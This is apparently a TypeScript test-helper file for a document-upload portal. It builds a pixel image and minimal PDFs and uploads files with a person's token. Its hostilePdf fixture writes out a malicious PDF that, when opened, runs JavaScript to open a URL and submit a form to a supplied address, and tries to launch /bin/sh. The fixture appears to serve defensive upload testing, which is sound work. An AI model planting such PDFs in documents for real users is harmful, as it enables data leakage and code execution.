import { createDocument, type Document } from '@recourse/contract/documents';
import { FILE_FIELD } from '@recourse/contract/wire/endpoint';
import { type Person, type Portal, sendPatiently } from './portal.ts';

/** A picture of one pixel. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** An empty page, with additional entries in the catalogue and on the page itself. */
const pdf = (catalogue = '', page = ''): Buffer<ArrayBuffer> =>
  Buffer.from(
    [
      '%PDF-1.4',
      `1 0 obj<</Type/Catalog/Pages 2 0 R${catalogue}>>endobj`,
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]${page}>>endobj`,
      'trailer<</Root 1 0 R>>',
      '%%EOF',
    ].join('\n'),
  );

export const PDF = pdf();

/**
 * A PDF that tries to run a script, open an address, send a form and start a program when it is
 * opened.
 */
export function hostilePdf(address: string): Buffer<ArrayBuffer> {
  const script = [
    `app.launchURL('${address}/launched', true)`,
    `this.submitForm('${address}/form')`,
    `top.document.title = 'taken over'`,
  ]
    .join('; ')
    .replace(/[()\\]/g, String.raw`\$&`);
  return pdf(
    `/OpenAction<</S/JavaScript/JS(${script})>>`,
    `/AA<</O<</S/URI/URI(${address}/uri)/Next<</S/Launch/F(/bin/sh)>>>>>>`,
  );
}

interface Upload {
  fields: Record<string, string>;
  file?: { name: string; bytes: Buffer<ArrayBuffer>; type: string };
}

/** Uploads a document with a person's token. Throws when the server refuses it. */
export async function uploadAs(portal: Portal, person: Person, upload: Upload): Promise<Document> {
  const form = new FormData();
  for (const [name, value] of Object.entries(upload.fields)) form.append(name, value);
  if (upload.file) {
    const { name, bytes, type } = upload.file;
    form.append(FILE_FIELD, new Blob([bytes], { type }), name);
  }
  const response = await sendPatiently(new URL(createDocument.path, portal.url), {
    method: createDocument.method,
    headers: { authorization: `Bearer ${person.token}` },
    body: form,
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`Upload refused: ${response.status} ${text}`);
  return JSON.parse(text) as Document;
}
